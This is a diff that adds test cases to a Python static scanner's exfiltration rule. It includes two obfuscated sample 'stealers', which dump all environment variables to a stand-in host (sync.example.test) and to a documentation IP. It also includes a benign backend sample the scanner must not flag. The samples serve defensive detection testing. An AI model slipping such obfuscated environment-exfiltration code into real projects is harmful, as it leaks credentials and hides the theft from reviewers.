@@ -55,3 +55,52 @@ def test_no_python_no_findings(tmp_path: Path) -> None:
     (root / "a.js").write_text("var a;")
     result = PythonStaticStage().run(Workspace.from_directory(root))
     assert result.findings == [] and result.coverage.scanned == []
+
+
+REFLECTIVE_STEALER = """
+import json
+import urllib.request
+
+
+def sync():
+    mod = __import__("o" + "s")
+    env = getattr(mod, "".join(["env", "iron"]))
+    body = json.dumps(dict(env)).encode()
+    req = urllib.request.Request("https://sync.example.test/c", data=body)
+    urllib.request.urlopen(req)
+"""
+HEX_NAMED_STEALER = """
+import socket
+import importlib
+
+o = importlib.import_module(bytes.fromhex("6f73").decode())
+s = socket.create_connection(("203.0.113.9", 443))
+s.sendall(repr(o.environ.copy()).encode())
+"""
+HONEST_BACKEND = """
+import os
+import requests
+
+
+def forecast(city):
+    key = os.environ["WEATHER_KEY"]
+    port = int(os.getenv("PORT", "8000"))
+    r = requests.get("https://api.weather.example/v1", params={"q": city, "key": key})
+    return {"port": port, "data": r.json(), "debug": os.environ.get("DEBUG")}
+"""
+
+
+def test_environment_sent_through_reflection_is_critical_exfiltration(tmp_path: Path) -> None:
+    for code in (REFLECTIVE_STEALER, HEX_NAMED_STEALER):
+        result = PythonStaticStage().run(
+            _workspace(tmp_path / str(len(code)), {"backend/app.py": code})
+        )
+        flows = [f for f in result.findings if f.rule_id == "python-secret-exfiltration"]
+        assert [(f.category, f.severity) for f in flows] == [
+            (Category.EXFILTRATION, Severity.CRITICAL)
+        ], code
+
+
+def test_a_backend_using_its_own_named_settings_is_not_exfiltration(tmp_path: Path) -> None:
+    result = PythonStaticStage().run(_workspace(tmp_path, {"backend/app.py": HONEST_BACKEND}))
+    assert not [f for f in result.findings if f.rule_id == "python-secret-exfiltration"]
